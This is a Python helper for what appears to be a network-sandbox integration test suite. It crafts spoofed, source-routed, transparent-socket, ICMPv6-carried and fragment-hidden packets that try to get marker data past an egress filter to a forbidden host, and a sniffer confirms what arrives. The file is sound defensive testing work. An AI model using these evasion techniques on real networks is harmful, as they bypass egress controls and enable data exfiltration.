#!/usr/bin/env python3
"""Crafted packets for tests/integration/test_attacks.sh: the ways a process inside a restricted
namespace could try to get data to a forbidden host, and a sniffer that proves what arrived.

Every command prints one line, "sent ..." or "refused: <errno name>", and exits 0 unless it
could not even try (then 2). Whether anything arrived is judged by the sniffer or the lab's
listeners on the forbidden host, never by this side.

  forged-reply FAM FORGE OWN FORBIDDEN PORT MARK [VIA]
      FORGE raw:       a raw IP_HDRINCL/IPV6_HDRINCL socket (CAP_NET_RAW) sends a UDP datagram
                       with source FORBIDDEN:PORT to OWN:40000 (over lo)
      FORGE freebind:  an IPV6_FREEBIND socket (no capability) bound to [FORBIDDEN]:PORT does
      then the socket bound to OWN:40000 "replies" MARK to FORBIDDEN:PORT; with VIA, the reply is
      also sent by a raw header-including socket routed by its sendto() address VIA while its
      header says FORBIDDEN (what a route layer cannot see)
  tcp-transparent FAM OWN FORBIDDEN PORT
      an IP_TRANSPARENT socket (CAP_NET_RAW) bound to FORBIDDEN:PORT connects to OWN:40001,
      where a listener waits: its SYN-ACK goes to FORBIDDEN as a "reply"
  spoof FAM SRC DST PORT MARK          raw UDP datagram with a source that is not ours
  nd-payload DST MARK                  an ICMPv6 neighbour solicitation carrying MARK, to DST
  lsrr HOP DST PORT MARK               UDP with an IPv4 loose source route via HOP
  srh HOP DST PORT MARK                UDP with an IPv6 segment routing header via HOP
  unicast-if IFINDEX DST PORT MARK     UDP from a socket pinned to an interface (IP_UNICAST_IF /
                                       IPV6_UNICAST_IF, no capability): routing failures fall
                                       back to "on-link" for such sockets
  peer-serve PORT TRIGGER LOG          (the remote side of an old connection) accept one TCP
                                       connection, wait for the file TRIGGER, then speak first and
                                       log for 2 s whatever comes back
  peer-client HOST PORT MARK           connect, print "connected", wait for the remote to speak,
                                       then send MARK three times
  lsrr-raw OWN HOP DST PORT MARK PTR   raw IP_HDRINCL UDP with an LSRR option whose pointer is PTR
                                       (8: "first hop already visited", which the kernel's own
                                       option parser does not recognise as a source route)
  plant VIA OWN FORBIDDEN PORT         raw datagram FORBIDDEN:PORT -> OWN:40003, routed by sendto()
                                       to VIA, which sends it back in: a forged "inbound" flow
  speak OWN FORBIDDEN PORT MARK        (no capability) from OWN:40003, MARK to FORBIDDEN:PORT
  pkt-reflect FAM GWMAC FORBIDDEN ALLOWED MARK
                                       AF_PACKET frame to the router: an echo request "from"
                                       FORBIDDEN to ALLOWED, which answers FORBIDDEN with MARK
  pkt-frag-srh GWMAC OWN HOP DST MARK  AF_PACKET: two IPv6 fragments to HOP, a segment routing
                                       header to DST hidden inside (behind the fragment header)
  sniff IFACE SECONDS MARK [TCPSPORT]  count frames on IFACE holding MARK (or TCP from TCPSPORT)
"""
import errno
import os
import signal
import socket
import struct
import sys
import time

IPV6_FREEBIND = 78
IP_TRANSPARENT = 19
IPV6_TRANSPARENT = 75
IPV6_RTHDR = 57
IP_OPTIONS = 4


def out(msg):
    print(msg, flush=True)


def refused(e):
    out("refused: " + errno.errorcode.get(e.errno, str(e.errno)))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def udp_packet(fam, src, dst, sport, dport, payload):
    length = 8 + len(payload)
    if fam == 4:
        s, d = socket.inet_pton(socket.AF_INET, src), socket.inet_pton(socket.AF_INET, dst)
        udp = struct.pack("!HHHH", sport, dport, length, 0) + payload  # checksum 0: none (IPv4)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0x4242, 0, 64, 17, 0, s, d)
        return ip + udp
    s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    pseudo = s + d + struct.pack("!I3xB", length, 17)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, length, c) + payload
    ip = struct.pack("!IHBB16s16s", 0x60000000, length, 17, 64, s, d)
    return ip + udp


def af(fam):
    return socket.AF_INET if fam == 4 else socket.AF_INET6


def raw_send(fam, pkt, route_to):
    r = socket.socket(af(fam), socket.SOCK_RAW, socket.IPPROTO_RAW)
    r.sendto(pkt, (route_to, 0))
    r.close()


def forged_reply(fam, forge, own, forbidden, port, mark, via=None):
    server = socket.socket(af(fam), socket.SOCK_DGRAM)
    server.bind((own, 40000))
    server.settimeout(1.0)
    try:
        if forge == "raw":
            raw_send(fam, udp_packet(fam, forbidden, own, port, 40000, b"forged-opening"), own)
        else:
            f = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            f.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
            f.bind((forbidden, port))
            f.sendto(b"forged-opening", (own, 40000))
    except OSError as e:
        out("forge " + errno.errorcode.get(e.errno, str(e.errno)))
    try:
        _, peer = server.recvfrom(2048)
        out("forged datagram arrived from %s" % peer[0])
    except socket.timeout:
        out("forged datagram did not arrive")
    results = []
    for _ in range(3):
        try:
            server.sendto(mark.encode(), (forbidden, port))
            results.append("sent")
        except OSError as e:
            results.append("refused: " + errno.errorcode.get(e.errno, str(e.errno)))
        time.sleep(0.05)
    if via:
        try:
            raw_send(fam, udp_packet(fam, own, forbidden, 40000, port, mark.encode()), via)
            results.append("raw via %s: sent" % via)
        except OSError as e:
            results.append("raw via %s: refused: %s" % (via, errno.errorcode.get(e.errno, str(e.errno))))
    out("reply: " + ", ".join(results))


def tcp_transparent(fam, own, forbidden, port):
    lst = socket.socket(af(fam), socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind((own, 40001))
    lst.listen(1)
    t = socket.socket(af(fam), socket.SOCK_STREAM)
    try:
        if fam == 4:
            t.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        else:
            t.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
        t.bind((forbidden, port))
    except OSError as e:
        refused(e)
        return
    t.settimeout(1.5)
    try:
        t.connect((own, 40001))
        out("connected (the SYN-ACK came back)")
    except OSError as e:
        out("connect: " + (errno.errorcode.get(e.errno, "timeout") if e.errno else "timeout"))


def spoof(fam, src, dst, port, mark):
    try:
        raw_send(fam, udp_packet(fam, src, dst, 40002, port, mark.encode()), dst)
        out("sent")
    except OSError as e:
        refused(e)


def nd_payload(dst, mark):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    target = socket.inet_pton(socket.AF_INET6, dst)
    msg = struct.pack("!BBHI16s", 135, 0, 0, 0, target) + mark.encode()  # the kernel fills the checksum
    try:
        s.sendto(msg, (dst, 0))
        out("sent")
    except OSError as e:
        refused(e)


def lsrr(hop, dst, port, mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # NOP, then LSRR: type 131, length 7, pointer 4, one address: the first hop (the kernel sends
    # there and writes sendto's address, the final destination, into the option).
    opt = bytes([1, 131, 7, 4]) + socket.inet_pton(socket.AF_INET, hop)
    try:
        s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, opt)
        # With a source route the kernel sends to the first hop: sendto names the final destination.
        s.sendto(mark.encode(), (dst, port))
        out("sent")
    except OSError as e:
        refused(e)


def srh(hop, dst, port, mark):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    # Segment routing header (type 4): segments[0] is the final destination (the kernel writes
    # sendto's address there), segments[1] the first hop; segments_left 1.
    segs = socket.inet_pton(socket.AF_INET6, "::") + socket.inet_pton(socket.AF_INET6, hop)
    hdr = struct.pack("!BBBBBBH", 0, len(segs) // 8, 4, 1, 1, 0, 0) + segs
    try:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, hdr)
        s.sendto(mark.encode(), (dst, port))
        out("sent")
    except OSError as e:
        refused(e)


def unicast_if(ifindex, dst, port, mark):
    fam = 6 if ":" in dst else 4
    s = socket.socket(af(fam), socket.SOCK_DGRAM)
    try:
        if fam == 4:
            s.setsockopt(socket.IPPROTO_IP, 50, struct.pack("!I", ifindex))  # IP_UNICAST_IF: network order
        else:
            s.setsockopt(socket.IPPROTO_IPV6, 76, struct.pack("!I", ifindex))  # IPV6_UNICAST_IF: the same
        s.sendto(mark.encode(), (dst, port))
        out("sent")
    except OSError as e:
        refused(e)


def peer_serve(port, trigger, log):
    lst = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind(("::", port))
    lst.listen(1)
    out("listening")
    c, _ = lst.accept()
    while not os.path.exists(trigger):
        time.sleep(0.02)
    c.sendall(b"remote speaks first\n")
    c.settimeout(0.2)
    got = b""
    end = time.monotonic() + 2
    while time.monotonic() < end:
        try:
            d = c.recv(4096)
            if not d:
                break
            got += d
        except socket.timeout:
            pass
        except OSError:
            break
    with open(log, "wb") as f:
        f.write(got)


def peer_client(host, port, mark):
    c = socket.create_connection((host, port), timeout=5)
    out("connected")
    c.settimeout(10)
    try:
        c.recv(4096)
        out("the remote spoke")
    except OSError as e:
        out("nothing from the remote: %s" % e)
        return
    results = []
    for _ in range(3):
        try:
            c.send(mark.encode())
            results.append("sent")
        except OSError as e:
            results.append("refused: " + errno.errorcode.get(e.errno, str(e.errno)))
        time.sleep(0.2)
    out("data: " + ", ".join(results))


def lsrr_raw(src, hop, dst, port, mark, ptr):
    opt = bytes([1, 131, 11, ptr]) + socket.inet_pton(socket.AF_INET, hop) + socket.inet_pton(socket.AF_INET, dst)
    payload = mark.encode()
    udp = struct.pack("!HHHH", 40004, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x40 | (5 + len(opt) // 4), 0, 20 + len(opt) + len(udp), 0x4243, 0, 64, 17, 0,
                     socket.inet_pton(socket.AF_INET, src), socket.inet_pton(socket.AF_INET, hop))
    try:
        raw_send(4, ip + opt + udp, hop)
        out("sent")
    except OSError as e:
        refused(e)


def plant(via, own, forbidden, port):
    fam = 6 if ":" in own else 4
    try:
        raw_send(fam, udp_packet(fam, forbidden, own, port, 40003, b"planted"), via)
        out("sent")
    except OSError as e:
        refused(e)


def speak(own, forbidden, port, mark):
    fam = 6 if ":" in own else 4
    s = socket.socket(af(fam), socket.SOCK_DGRAM)
    s.bind((own, 40003))
    results = []
    for _ in range(3):
        try:
            s.sendto(mark.encode(), (forbidden, port))
            results.append("sent")
        except OSError as e:
            results.append("refused: " + errno.errorcode.get(e.errno, str(e.errno)))
        time.sleep(0.05)
    out(", ".join(results))


def ifmac(ifname):
    with open("/sys/class/net/%s/address" % ifname) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def pkt_send(gwmac, ethertype, payload):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.bind(("eth0", 0))
    s.send(bytes.fromhex(gwmac.replace(":", "")) + ifmac("eth0") + struct.pack("!H", ethertype) + payload)


def pkt_reflect(fam, gwmac, forbidden, allowed, mark):
    if fam == 4:
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x1234, 1) + mark.encode()
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        s, d = socket.inet_pton(socket.AF_INET, forbidden), socket.inet_pton(socket.AF_INET, allowed)
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0x4244, 0, 64, 1, 0, s, d)
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        frame, et = hdr + icmp, 0x0800
    else:
        s, d = socket.inet_pton(socket.AF_INET6, forbidden), socket.inet_pton(socket.AF_INET6, allowed)
        icmp = struct.pack("!BBHHH", 128, 0, 0, 0x1234, 1) + mark.encode()
        c = csum(s + d + struct.pack("!I3xB", len(icmp), 58) + icmp)
        icmp = icmp[:2] + struct.pack("!H", c) + icmp[4:]
        frame, et = struct.pack("!IHBB16s16s", 0x60000000, len(icmp), 58, 64, s, d) + icmp, 0x86DD
    try:
        pkt_send(gwmac, et, frame)
        out("sent")
    except OSError as e:
        refused(e)


def pkt_frag_srh(gwmac, own, hop, dst, mark):
    o, h, d = (socket.inet_pton(socket.AF_INET6, x) for x in (own, hop, dst))
    payload = mark.encode() + b"-" * 40
    udp = struct.pack("!HHHH", 40005, 9999, 8 + len(payload), 0) + payload
    c = csum(o + d + struct.pack("!I3xB", len(udp), 17) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    segs = d + h  # segments[0] the final destination, segments[1] the first hop
    srh = struct.pack("!BBBBBBH", 17, len(segs) // 8, 4, 1, 1, 0, 0) + segs
    body = srh + udp
    cut = (len(srh) + 8 + 16) // 8 * 8
    frags = [struct.pack("!BBHI", 43, 0, 0 | 1, 0x5678) + body[:cut],
             struct.pack("!BBHI", 43, 0, cut, 0x5678) + body[cut:]]
    try:
        for f in frags:
            pkt_send(gwmac, 0x86DD, struct.pack("!IHBB16s16s", 0x60000000, len(f), 44, 64, o, h) + f)
        out("sent")
    except OSError as e:
        refused(e)


def sniff(iface, seconds, mark, tcp_sport=None):
    # Counts until told the attack is over (SIGUSR1), then `seconds` more for what is still on
    # its way: a fixed window would miss an attacker that starts late on a loaded machine. At
    # most 60 s in all, should nobody say so.
    stopped = []
    signal.signal(signal.SIGUSR1, lambda *_: stopped.append(time.monotonic()))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    s.settimeout(0.1)
    out("listening")
    cap = time.monotonic() + 60
    hits = 0
    m = mark.encode()
    while time.monotonic() < (stopped[0] + seconds if stopped else cap):
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        if m in frame:
            hits += 1
            continue
        if tcp_sport is None or len(frame) < 14:
            continue
        et = struct.unpack("!H", frame[12:14])[0]
        if et == 0x0800 and frame[23] == 6:
            ihl = (frame[14] & 0x0F) * 4
            if struct.unpack("!H", frame[14 + ihl:16 + ihl])[0] == tcp_sport:
                hits += 1
        elif et == 0x86DD and frame[20] == 6:
            if struct.unpack("!H", frame[54:56])[0] == tcp_sport:
                hits += 1
    out("hits %d" % hits)


def main(argv):
    cmd, args = argv[1], argv[2:]
    try:
        if cmd == "forged-reply":
            forged_reply(int(args[0]), args[1], args[2], args[3], int(args[4]), args[5], args[6] if len(args) > 6 else None)
        elif cmd == "tcp-transparent":
            tcp_transparent(int(args[0]), args[1], args[2], int(args[3]))
        elif cmd == "spoof":
            spoof(int(args[0]), args[1], args[2], int(args[3]), args[4])
        elif cmd == "nd-payload":
            nd_payload(args[0], args[1])
        elif cmd == "lsrr":
            lsrr(args[0], args[1], int(args[2]), args[3])
        elif cmd == "srh":
            srh(args[0], args[1], int(args[2]), args[3])
        elif cmd == "unicast-if":
            unicast_if(int(args[0]), args[1], int(args[2]), args[3])
        elif cmd == "peer-serve":
            peer_serve(int(args[0]), args[1], args[2])
        elif cmd == "peer-client":
            peer_client(args[0], int(args[1]), args[2])
        elif cmd == "lsrr-raw":
            lsrr_raw(args[0], args[1], args[2], int(args[3]), args[4], int(args[5]))
        elif cmd == "plant":
            plant(args[0], args[1], args[2], int(args[3]))
        elif cmd == "speak":
            speak(args[0], args[1], int(args[2]), args[3])
        elif cmd == "pkt-reflect":
            pkt_reflect(int(args[0]), args[1], args[2], args[3], args[4])
        elif cmd == "pkt-frag-srh":
            pkt_frag_srh(args[0], args[1], args[2], args[3], args[4])
        elif cmd == "sniff":
            sniff(args[0], float(args[1]), args[2], int(args[3]) if len(args) > 3 else None)
        else:
            print(__doc__, file=sys.stderr)
            return 2
    except OSError as e:
        out("could not try: %s" % e)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
